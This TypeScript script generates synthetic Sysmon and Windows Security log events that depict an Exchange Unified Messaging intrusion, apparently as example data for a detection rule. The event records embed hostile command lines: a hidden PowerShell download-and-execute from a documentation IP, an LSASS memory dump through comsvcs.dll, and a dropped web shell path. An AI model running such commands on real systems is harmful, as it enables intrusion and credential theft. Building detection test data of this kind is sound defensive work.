/**
 * Writes the bundled example data in examples/: a SYNTHETIC Exchange Unified
 * Messaging intrusion (CVE-2021-26857 style) on two servers. Every event has
 * the exact layout of a real event from Splunk's ESCU data source examples
 * (Sysmon EventID 1/10/11 and Security 4688 as Splunk's XmlWinEventLog
 * records them); only hosts, times, processes and command lines are invented.
 *
 * Run: npx tsx scripts/make-examples.ts
 */
import { writeFileSync } from 'node:fs';

const SYSMON_GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';
let record = 120400;

function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&apos;');
}

function sysmon(id: number, version: number, task: number, time: string, computer: string, data: [string, string][]): string {
  record++;
  const fields = data.map(([k, v]) => `<Data Name='${k}'>${esc(v)}</Data>`).join('');
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='${SYSMON_GUID}'/><EventID>${id}</EventID><Version>${version}</Version><Level>4</Level><Task>${task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${time}'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='2912' ThreadID='3424'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>${computer}</Computer><Security UserID='S-1-5-18'/></System><EventData>${fields}</EventData></Event>`;
}

const HOST1 = 'EXCH01.corp.example';
const UM_DIR = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin';
const UMWORKER = `${UM_DIR}\\UMWorkerProcess.exe`;
const UMSERVICE = `${UM_DIR}\\UMService.exe`;

interface Proc {
  guid: string;
  pid: number;
  image: string;
  cmd: string;
  user: string;
}

const services: Proc = { guid: '{3F2A1C00-0A10-603D-0B00-000000002A01}', pid: 712, image: 'C:\\Windows\\System32\\services.exe', cmd: 'C:\\Windows\\system32\\services.exe', user: 'NT AUTHORITY\\SYSTEM' };

function utc(t: string): string {
  return t.replace('T', ' ').replace(/\d{4}Z$/, '').slice(0, 23);
}

function procCreate(time: string, child: Proc, parent: Proc, hashes: string, original: string, integrity = 'System'): string {
  return sysmon(1, 5, 1, time, HOST1, [
    ['RuleName', '-'],
    ['UtcTime', utc(time)],
    ['ProcessGuid', child.guid],
    ['ProcessId', String(child.pid)],
    ['Image', child.image],
    ['FileVersion', '15.1.2106.2'],
    ['Description', '-'],
    ['Product', '-'],
    ['Company', 'Microsoft Corporation'],
    ['OriginalFileName', original],
    ['CommandLine', child.cmd],
    ['CurrentDirectory', 'C:\\Windows\\system32\\'],
    ['User', child.user],
    ['LogonGuid', '{3F2A1C00-0A10-603D-E703-000000000000}'],
    ['LogonId', '0x3e7'],
    ['TerminalSessionId', '0'],
    ['IntegrityLevel', integrity],
    ['Hashes', hashes],
    ['ParentProcessGuid', parent.guid],
    ['ParentProcessId', String(parent.pid)],
    ['ParentImage', parent.image],
    ['ParentCommandLine', parent.cmd],
  ]);
}

const umservice: Proc = { guid: '{3F2A1C00-0A12-603D-2C01-000000002A01}', pid: 4120, image: UMSERVICE, cmd: `"${UMSERVICE}"`, user: 'NT AUTHORITY\\SYSTEM' };
const umworker: Proc = { guid: '{3F2A1C00-0A14-603D-3101-000000002A01}', pid: 5904, image: UMWORKER, cmd: `"${UMWORKER}" -pipe:2544 -subprocessid:1 -tempdir:"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\UnifiedMessaging\\temp"`, user: 'NT AUTHORITY\\SYSTEM' };
const cmd: Proc = { guid: '{3F2A1C00-4E5F-603D-8A03-000000002A01}', pid: 7312, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c whoami /all & ipconfig /all', user: 'NT AUTHORITY\\SYSTEM' };
const ps: Proc = { guid: '{3F2A1C00-4E61-603D-8D03-000000002A01}', pid: 7460, image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"', user: 'NT AUTHORITY\\SYSTEM' };
const w3wp: Proc = { guid: '{3F2A1C00-0A20-603D-4A01-000000002A01}', pid: 6880, image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"', user: 'NT AUTHORITY\\SYSTEM' };
const cmd2: Proc = { guid: '{3F2A1C00-5A02-603D-9A03-000000002A01}', pid: 8120, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd /c hostname', user: 'NT AUTHORITY\\SYSTEM' };

const H_UM = 'MD5=0E1D5E7F4A3C2B1A09F8E7D6C5B4A392,SHA256=6C1B0C6E3E1E0F0B2D6A4B7F3E1C2A9D8E7F6A5B4C3D2E1F0A9B8C7D6E5F4A3B,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744';
const H_CMD = 'MD5=F4F684066175B77E0C3A000549D2922C,SHA256=935C1861DF1F4018D698E8B65ABFA02D7E9037D8F68CA3C2065B6CA165D44AD2,IMPHASH=3062ED732D4B25D1C64F084DAC97D37A';
const H_PS = 'MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F';
const H_WER = 'MD5=2A6E0E2C7C5A5A0F3D1B9C8E7F6A5B4C,SHA256=A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F90,IMPHASH=9D1E8F1E2C5C3C0A4F1D7E8B6A5C4D3E';

const lines: string[] = [];
lines.push(procCreate('2021-03-02T02:10:00.1180000Z', umservice, services, H_UM, 'UMService.exe'));
lines.push(procCreate('2021-03-02T02:10:05.5020000Z', umworker, umservice, H_UM, 'UMWorkerProcess.exe'));
lines.push(procCreate('2021-03-02T02:11:40.0020000Z', w3wp, services, H_UM, 'w3wp.exe'));
lines.push(procCreate('2021-03-03T03:14:07.2250000Z', cmd, umworker, H_CMD, 'Cmd.Exe'));
lines.push(procCreate('2021-03-03T03:14:09.8810000Z', ps, cmd, H_PS, 'PowerShell.EXE'));
for (let i = 0; i < 12; i++) {
  const sec = 30 + i * 8;
  const t = `2021-03-03T03:${String(14 + Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')}.${String(100 + i * 37).padStart(3, '0')}0000Z`;
  const wer: Proc = {
    guid: `{3F2A1C00-4E${(70 + i).toString(16).toUpperCase()}-603D-9${i.toString(16).toUpperCase()}03-000000002A01}`,
    pid: 8400 + i * 12,
    image: i % 3 === 2 ? 'C:\\Windows\\System32\\wermgr.exe' : 'C:\\Windows\\System32\\WerFault.exe',
    cmd: i % 3 === 2 ? 'C:\\Windows\\system32\\wermgr.exe -outproc 0 5904' : `C:\\Windows\\system32\\WerFault.exe -u -p 5904 -s ${1200 + i * 4}`,
    user: 'NT AUTHORITY\\SYSTEM',
  };
  lines.push(procCreate(t, wer, umworker, H_WER, i % 3 === 2 ? 'wermgr.exe' : 'WerFault.exe'));
}
// A web shell dropped where ProxyLogon's were: Sysmon FileCreate by the UM worker.
lines.push(sysmon(11, 2, 11, '2021-03-03T03:15:02.4170000Z', HOST1, [
  ['RuleName', '-'],
  ['UtcTime', '2021-03-03 03:15:02.417'],
  ['ProcessGuid', umworker.guid],
  ['ProcessId', String(umworker.pid)],
  ['Image', UMWORKER],
  ['TargetFilename', 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx'],
  ['CreationUtcTime', '2021-03-03 03:15:02.417'],
]));
// Near miss: the UM worker as the target of a process access, not as a parent.
lines.push(sysmon(10, 3, 10, '2021-03-03T03:20:44.9010000Z', HOST1, [
  ['RuleName', '-'],
  ['UtcTime', '2021-03-03 03:20:44.901'],
  ['SourceProcessGUID', ps.guid],
  ['SourceProcessId', String(ps.pid)],
  ['SourceThreadId', '7588'],
  ['SourceImage', ps.image],
  ['TargetProcessGUID', umworker.guid],
  ['TargetProcessId', String(umworker.pid)],
  ['TargetImage', UMWORKER],
  ['GrantedAccess', '0x1410'],
  ['CallTrace', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e'],
]));
// Near miss: an OWA web shell (w3wp.exe → cmd.exe) is another detection's business.
lines.push(procCreate('2021-03-03T04:02:13.0040000Z', cmd2, w3wp, H_CMD, 'Cmd.Exe'));
lines.sort((a, b) => (a.match(/SystemTime='([^']+)'/)?.[1] ?? '').localeCompare(b.match(/SystemTime='([^']+)'/)?.[1] ?? ''));
writeFileSync('examples/exch01-sysmon.xml', lines.join('\n') + '\n');

// EXCH02: no Sysmon; Security 4688 events as JSON lines in the EVTX-as-JSON shape.
let srec = 88120;
function sec4688(time: string, version: number, data: Record<string, string>): string {
  srec++;
  return JSON.stringify({
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing', Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' } },
        EventID: 4688,
        Version: version,
        Level: 0,
        Task: 13312,
        Opcode: 0,
        Keywords: '0x8020000000000000',
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: srec,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 4, ThreadID: 276 } },
        Channel: 'Security',
        Computer: 'EXCH02.corp.example',
        Security: null,
      },
      EventData: data,
    },
  });
}
const subject = { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'EXCH02$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' };
const target = { TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0' };
const json = [
  sec4688('2021-03-03T05:41:12.3300000Z', 2, { ...subject, NewProcessId: '0x1c4c', NewProcessName: 'C:\\Windows\\System32\\cmd.exe', TokenElevationType: '%%1936', ProcessId: '0x1710', CommandLine: 'cmd.exe /c net group "Exchange Trusted Subsystem" /domain', ...target, ParentProcessName: UMWORKER, MandatoryLabel: 'S-1-16-16384' }),
  sec4688('2021-03-03T05:41:20.0120000Z', 2, { ...subject, NewProcessId: '0x1d08', NewProcessName: 'C:\\Windows\\System32\\taskhostw.exe', TokenElevationType: '%%1936', ProcessId: '0x3a8', CommandLine: 'taskhostw.exe', ...target, ParentProcessName: 'C:\\Windows\\System32\\svchost.exe', MandatoryLabel: 'S-1-16-16384' }),
  // Version 1 (before Windows 10 / Server 2016): no ParentProcessName, only the creator PID.
  sec4688('2021-03-03T05:42:02.7770000Z', 1, { ...subject, NewProcessId: '0x1e20', NewProcessName: 'C:\\Windows\\System32\\rundll32.exe', TokenElevationType: '%%1936', ProcessId: '0x1710', CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\root\\lsass.dmp full' }),
];
writeFileSync('examples/exch02-security.jsonl', json.join('\n') + '\n');
